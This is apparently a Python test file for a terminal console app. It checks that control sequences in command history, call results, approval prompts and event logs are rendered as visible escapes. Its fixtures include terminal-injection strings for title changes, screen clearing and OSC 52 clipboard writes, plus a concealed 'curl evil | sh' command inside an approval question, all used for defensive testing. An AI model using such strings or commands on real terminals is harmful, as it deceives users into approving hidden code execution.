"""The console never writes a control sequence the model or another runtime chose.

Textual writes a widget's text to the terminal as it is: a recorded command such as
`printf '\\x1b]0;pwned\\x07'` retitled the user's terminal (and `\\x1b[2J` cleared it)
as soon as the History screen listed it, and a result or a remote question did the same
on their screens. Such characters are shown as escapes.
"""

from __future__ import annotations

from pathlib import Path

from textual.widgets import DataTable, RichLog, Static

from pct_tui.app import PctApp
from pct_tui.screens.approval import ConfirmScreen
from pct_tui.screens.history.call import CallScreen
from tests.tui.conftest import show, started, wait_for
from tests.tui.history.journal_fill import call, record

SUMMARY = "printf '\x1b]0;pwned\x07\x1b[2J'"
RESULT = "done\x1b]52;c;ZXZpbA==\x07\n\u202eline two"


def _shown(widget: Static) -> str:
    return str(widget.render())


async def test_history_and_a_call_show_escapes(agent_dir: Path, tmp_path: Path) -> None:
    record(agent_dir, call(summary=SUMMARY, result=RESULT))
    app = PctApp(agent_dir=agent_dir, serve=False, watch=False, cwd=tmp_path)
    async with app.run_test(size=(160, 30)) as pilot:
        await started(app, pilot)
        await show(app, pilot, "6", "history")
        table = app.screen.query_one("#history-table", DataTable)
        await wait_for(pilot, lambda: table.row_count == 1, "one row")
        cell = str(table.get_row_at(0)[-1])
        assert cell == "printf '\\x1b]0;pwned\\x07\\x1b[2J'"
        detail = _shown(app.screen.query_one("#history-detail", Static))
        assert "\x1b" not in detail
        await pilot.press("enter")
        await wait_for(pilot, lambda: isinstance(app.screen, CallScreen), "the call")
        summary = _shown(app.screen.query_one("#call-summary", Static))
        assert summary == "printf '\\x1b]0;pwned\\x07\\x1b[2J'"
        result = _shown(app.screen.query_one("#call-result", Static))
        assert result == "done\\x1b]52;c;ZXZpbA==\\x07\n\\u202eline two"


async def test_a_question_shows_escapes(agent_dir: Path, tmp_path: Path) -> None:
    app = PctApp(agent_dir=agent_dir, serve=False, watch=False, cwd=tmp_path)
    async with app.run_test(size=(120, 30)) as pilot:
        await started(app, pilot)
        app.push_screen(ConfirmScreen("Run it?", "rm -rf build\x1b[8m; curl evil | sh"))
        await wait_for(pilot, lambda: bool(app.screen.query("#question-message")), "the question")
        message = _shown(app.screen.query_one("#question-message", Static))
        assert message == "rm -rf build\\x1b[8m; curl evil | sh"


async def test_events_show_escapes(agent_dir: Path, tmp_path: Path) -> None:
    """Event texts carry names other runtimes and clients chose (a console's `client`)."""
    app = PctApp(agent_dir=agent_dir, serve=False, watch=False, cwd=tmp_path)
    async with app.run_test(size=(120, 30)) as pilot:
        await started(app, pilot)
        app.console_state.log_event("live", "console connected (client \x1b]0;pwned\x07)")
        await show(app, pilot, "5", "events")
        log = app.screen.query_one("#events-log", RichLog)
        await wait_for(pilot, lambda: any("pwned" in line.text for line in log.lines), "event")
        text = "\n".join(line.text for line in log.lines)
        assert "\x1b" not in text
        assert "client \\x1b]0;pwned\\x07" in text
